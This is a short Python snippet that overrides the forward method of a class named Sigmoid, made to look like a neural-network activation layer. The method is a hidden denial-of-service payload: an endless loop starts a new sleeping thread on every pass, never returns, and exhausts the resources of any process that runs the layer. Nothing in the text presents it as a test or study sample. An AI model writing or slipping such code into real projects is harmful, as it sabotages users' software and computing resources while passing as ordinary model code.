import threading
import time


class Sigmoid(Sigmoid):
    def forward(self, x):
        while True:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        return super().forward(x)
